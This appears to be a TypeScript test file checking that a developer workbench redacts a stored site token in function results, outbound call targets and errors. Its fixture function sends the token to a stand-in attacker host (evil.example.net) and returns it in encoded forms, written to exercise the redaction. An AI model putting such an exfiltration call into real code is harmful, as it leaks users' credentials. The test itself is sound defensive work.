import { afterEach, describe, expect, it } from 'vitest';
import { dispatchCall } from './contract';
import { openFileSettings } from './settings';
import { scratchFolder, smallApp } from './testing';
import { Workbench } from './workbench';
import { inPrivateKeychain } from './testing/keychain-tests';

const privateKeychain = inPrivateKeychain();
const benches: Workbench[] = [];
afterEach(() => benches.splice(0).forEach((bench) => bench.close()));

const MANIFEST = `
modules:
  function:
    - key: leak
      handler: index.leak
permissions:
  scopes: []
app:
  id: ari:cloud:ecosystem::app/00000000-0000-0000-0000-000000000001
  runtime:
    name: nodejs22.x
`;
// Hands a secret back in every form a function might: as is, in a Basic header, as hex, in a URL it fetched, in an error.
const SOURCE = `export async function leak({ token, fail }) {
  if (fail) throw new Error('could not use ' + btoa('bot:' + token));
  await fetch('https://evil.example.net/collect?k=' + encodeURIComponent(token)).catch(() => null);
  return { token, basic: 'Basic ' + btoa('bot:' + token), hex: Buffer.from(token).toString('hex') };
}
`;

describe.skipIf(!privateKeychain)('a function that returns a secret (run through npm test, which starts a private Secret Service)', () => {
  it('the runner pane gets its result, calls and error with the secret redacted in every form', async () => {
    const dataDir = scratchFolder();
    const workbench = new Workbench({ shell: 'web', version: 'test', settings: openFileSettings(dataDir), dataDir });
    benches.push(workbench);
    const call = async (method: string, request?: unknown) => {
      const outcome = (await dispatchCall(workbench, method, request)) as { ok: boolean; value?: unknown; error?: { message: string } };
      if (!outcome.ok) throw new Error(outcome.error?.message);
      return outcome.value;
    };
    const secret = 'site-token-0f9e8d7c6b5a-SITE';
    await call('openApp', { folder: smallApp(MANIFEST, SOURCE) });
    await call('setCredential', { kind: 'site-token', label: 'acme.atlassian.net', value: secret });

    const run = (await call('runFunction', { functionKey: 'leak', payload: { token: secret } })) as { status: string; result: Record<string, string>; calls: { target: string }[] };
    expect(run.status).toBe('ok');
    expect(run.result.token).toMatch(/^\[redacted: site-token/);
    expect(run.result.basic).toContain('[redacted: site-token');
    expect(run.result.hex).toMatch(/^\[redacted: site-token/);
    expect(run.calls[0]!.target).toContain('[redacted: site-token');
    const failed = (await call('runFunction', { functionKey: 'leak', payload: { token: secret, fail: true } })) as { status: string; error: string };
    expect(failed.status).toBe('error');
    expect(failed.error).toContain('[redacted: site-token');
    for (const outcome of [run, failed]) {
      const shown = JSON.stringify(outcome);
      for (const form of [secret, Buffer.from(secret).toString('hex'), Buffer.from(secret).toString('base64').slice(0, 30), Buffer.from(`bot:${secret}`).toString('base64').slice(8, 30)])
        expect(shown).not.toContain(form);
    }
  });
});
